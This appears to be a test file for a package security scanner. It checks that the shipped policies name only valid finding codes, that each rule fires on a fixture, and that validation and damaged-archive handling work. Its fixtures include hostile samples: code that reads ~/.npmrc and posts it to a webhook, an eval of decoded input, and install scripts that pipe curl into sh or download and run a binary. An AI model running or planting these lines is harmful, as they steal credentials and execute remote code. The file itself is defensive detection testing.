// The code registry: shipped policies name only real codes and dimensions, every shipped rule fires on a fixture, validation refuses unknown names with line and column, and a damaged archive gets one incompleteness finding.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { corpusPath, hasCorpora } from '../../../test/corpora.js';
import type { ScanFinding } from '../../core/contracts/pkgscan.js';
import { assessAnalysis } from '../analyzers/assessment.js';
import { runAnalyzers } from '../analyzers/risk.js';
import { releaseOf } from '../analyzers/release.fixture.js';
import { openRelease } from '../package/open.js';
import { verifyProvenance } from '../provenance/verify.js';
import { archiveFindings } from '../scans/analysis.js';
import { identityFindings } from '../scans/scan.js';
import { npmTarball } from '../sources/archives.fixture.js';
import { codeRegistry, isKnownCode } from './codes.js';
import { evaluatePolicy, type EvaluationInput } from './evaluate.js';
import { parsePolicy } from './parse.js';
import type { PolicyDocument } from './schema.js';

const here = path.dirname(fileURLToPath(import.meta.url));
const resourcesDir = path.resolve(here, '..', '..', '..', 'resources');
const registry = codeRegistry(resourcesDir);
const SHIPPED = ['dev', 'staging', 'prod'] as const;
const shipped = (env: string): PolicyDocument => {
  const parsed = parsePolicy(readFileSync(path.join(resourcesDir, 'pkgscan', 'policies', `${env}.yaml`), 'utf8'), registry);
  expect(parsed.errors).toEqual([]);
  if (parsed.document === undefined) throw new Error('shipped policy does not parse');
  return parsed.document;
};

interface Fixture {
  readonly findings: readonly ScanFinding[];
  readonly dimensions: Readonly<Record<string, number>>;
}

async function analysed(files: Record<string, string>, meta: Parameters<typeof releaseOf>[2] = {}, ecosystem: 'npm' | 'pypi' = 'npm', internal: readonly string[] = []): Promise<Fixture> {
  const r = await runAnalyzers(releaseOf(ecosystem, files, meta), { resourcesDir, internalNamespaces: internal });
  return { findings: r.findings, dimensions: r.risk.dimensions };
}

/** A fixture per shipped rule subject: the release (or scan step) that makes the code or dimension appear. */
const FIXTURES: Readonly<Record<string, () => Promise<Fixture>>> = {
  attack_chain: () => analysed({ 'index.js': "const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: t });" }),
  typosquat: () => analysed({ 'index.js': 'module.exports = 1;\n' }, { name: 'lodahs' }),
  dependency_confusion: () => analysed({ 'index.js': 'module.exports = 1;\n' }, { name: '@acme/payments' }, 'npm', ['@acme/']),
  identity_mismatch: () => Promise.resolve({ findings: identityFindings({ ecosystem: 'npm', name: 'ms', version: '2.1.3' }, 'ms', '2.1.4'), dimensions: {} }),
  integrity_mismatch: async () => {
    const bytes = await npmTarball('sample', '1.0.0');
    const release = openRelease(bytes, { registry: { integrity: `sha512-${Buffer.alloc(64, 1).toString('base64')}` } });
    const r = await verifyProvenance(release, { resourcesDir, archive: bytes });
    return { findings: r.findings, dimensions: {} };
  },
  npm_install_script_shell: () => analysed({ 'index.js': 'module.exports = 1;\n' }, { scripts: { postinstall: 'mkdir -p build && cp index.js build/' } }),
  setup_cmdclass_override: () => analysed({ 'setup.py': "from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\n        print('registered')\nsetup(name='sample', cmdclass={'install': Post})\n" }, {}, 'pypi'),
  'dim:malicious_code': () => analysed({ 'index.js': "const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: t });\neval(Buffer.from(process.argv[2], 'base64').toString());\n" }),
  'dim:install_time': () =>
    analysed({ 'index.js': 'module.exports = 1;\n' }, { scripts: { preinstall: 'curl -s https://example.org/x.sh | sh', postinstall: 'node -e "require(\'child_process\').exec(\'wget http://203.0.113.5/p -O /tmp/p && chmod +x /tmp/p && /tmp/p\')"' } }),
  'dim:obfuscation': () =>
    analysed({
      'index.js': [
        Array.from({ length: 30 }, (_, i) => `var _0x${(0xa000 + i).toString(16)}=${i};`).join(''),
        `var s='${'\\x41'.repeat(80)}';`,
        'var a\u200Bb = 1;',
        `var h='${'ab'.repeat(1600)}';`,
      ].join('\n'),
    }),
};

function inputOf(f: Fixture): EvaluationInput {
  return { findings: f.findings.map((x) => ({ code: x.code, severity: x.severity })), risk: { dimensions: f.dimensions }, vulnerabilities: { status: 'ok', items: [] }, provenance: { verified: true, status: 'verified' } };
}

describe('the finding code registry', () => {
  it('holds the rule files, the analyzers and the tool families, and refuses made-up codes', () => {
    expect(registry.codes.size).toBeGreaterThan(70);
    for (const c of ['js_eval_decoded', 'typosquat', 'archive_incomplete', 'integrity_mismatch', 'secret_npm_token', 'yara_js_decode_eval', 'attack_chain', 'identity_mismatch', 'bandit_b605']) expect(isKnownCode(registry, c)).toBe(true);
    for (const c of ['malicious_code', 'credential_exfiltration', 'install_script', 'no_such_code', 'incomplete_archive']) expect(isKnownCode(registry, c)).toBe(false);
    expect(registry.dimensions).toEqual(expect.arrayContaining(['malicious_code', 'install_time', 'obfuscation', 'metadata', 'provenance', 'vulnerabilities']));
    expect(registry.dimensions).not.toContain('network');
  });

  it('validation refuses unknown codes and dimensions with their line and column', () => {
    const text = ['version: 1', 'thresholds: { block_severity: high, warn_severity: medium, block_risk: 0.7, warn_risk: 0.4 }', 'findings:', '  block: [typosquat, no_such_code]', 'risk_dimensions:', '  network: { warn: 0.5 }', ''].join('\n');
    const r = parsePolicy(text, registry);
    expect(r.valid).toBe(false);
    expect(r.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: 'findings.block[1]', line: 4, col: 22 }),
        expect.objectContaining({ path: 'risk_dimensions.network', line: 6, col: 3 }),
      ]),
    );
    expect(JSON.stringify(r.errors)).not.toContain('no_such_code');
    expect(parsePolicy({ version: 1, thresholds: { block_severity: 'high', warn_severity: 'medium', block_risk: 0.7, warn_risk: 0.4 }, findings: { warn: ['install_script'] } }, registry).valid).toBe(false);
  });

  for (const env of SHIPPED) {
    it(`every rule of the shipped ${env} policy names a real code or dimension and fires on its fixture`, async () => {
      const doc = shipped(env);
      const rules: { subject: string; rule: string; fixture: string }[] = [
        ...(doc.findings?.block ?? []).map((c) => ({ subject: c, rule: 'findings.block', fixture: c })),
        ...(doc.findings?.warn ?? []).map((c) => ({ subject: c, rule: 'findings.warn', fixture: c })),
        ...Object.entries(doc.risk_dimensions ?? {}).map(([d, t]) => ({ subject: d, rule: `risk_dimensions.${d}.${t.block !== undefined ? 'block' : 'warn'}`, fixture: `dim:${d}` })),
      ];
      expect(rules.length).toBeGreaterThan(0);
      for (const r of rules) {
        const make = FIXTURES[r.fixture];
        expect(make, `no fixture for ${r.fixture}`).toBeDefined();
        if (make === undefined) continue;
        const fixture = await make();
        if (!r.rule.startsWith('risk_dimensions')) expect(fixture.findings.map((f) => f.code), r.fixture).toContain(r.subject);
        // Only the rule under test: the thresholds and other lists must not hide it.
        const only: PolicyDocument = { version: 1, thresholds: { block_severity: 'critical', warn_severity: 'critical', block_risk: 1, warn_risk: 1 }, ...(r.rule.startsWith('findings') ? { findings: { [r.rule.split('.')[1] ?? 'block']: [r.subject] } } : { risk_dimensions: { [r.subject]: doc.risk_dimensions?.[r.subject] ?? {} } }) };
        const e = evaluatePolicy(only, 'h', inputOf(fixture));
        expect(e.reasons.map((x) => x.rule), `${env}: ${r.rule} ${r.subject}`).toContain(r.rule);
        // and under the whole shipped policy the rule is among the reasons too
        expect(evaluatePolicy(doc, 'h', inputOf(fixture)).reasons.some((x) => x.rule === r.rule || (x.subject === r.subject && x.kind === 'finding')), `${env} whole: ${r.rule}`).toBe(true);
      }
    });
  }

  it.skipIf(!hasCorpora())('in prod, every benign corpus release imported offline (no attestation, no advisory data) reads clean and is warned for its gaps, never blocked', async () => {
    const prod = shipped('prod');
    const seen: Record<string, number> = {};
    for (const eco of ['npm', 'pypi'] as const) {
      const dir = corpusPath('packages', 'benign', eco);
      for (const file of readdirSync(dir).sort()) {
        const release = openRelease(new Uint8Array(readFileSync(path.join(dir, file))), { filename: file });
        const r = await runAnalyzers(release, { resourcesDir, internalNamespaces: [] });
        const a = assessAnalysis({ findings: r.findings, chains: r.chains, risk: r.risk, complete: release.complete });
        const e = evaluatePolicy(prod, 'h', { findings: r.findings.map((x) => ({ code: x.code, severity: x.severity })), risk: r.risk, vulnerabilities: { status: 'unavailable', items: [] }, provenance: { verified: false, status: 'absent' }, licenses: release.metadata.license !== undefined ? [release.metadata.license] : [] });
        const key = `${a.verdict}/${e.decision}`;
        seen[key] = (seen[key] ?? 0) + 1;
      }
    }
    expect(seen).toEqual({ 'clean/warn': 65 });
  }, 300_000);

  it('a damaged archive gets one incompleteness finding (archive_incomplete), not two', async () => {
    const bytes = await npmTarball('sample', '1.0.0');
    const release = openRelease(bytes.slice(0, Math.floor(bytes.length * 0.6)), { filename: 'sample-1.0.0.tgz', ecosystem: 'npm' });
    expect(release.complete).toBe(false);
    const analysed2 = await runAnalyzers(release, { resourcesDir, internalNamespaces: [] });
    const codes = [...archiveFindings(release.archiveIssues), ...analysed2.findings].map((f) => f.code);
    expect(codes.filter((c) => c === 'archive_incomplete')).toHaveLength(1);
    expect(codes).not.toContain('incomplete_archive');
  });
});
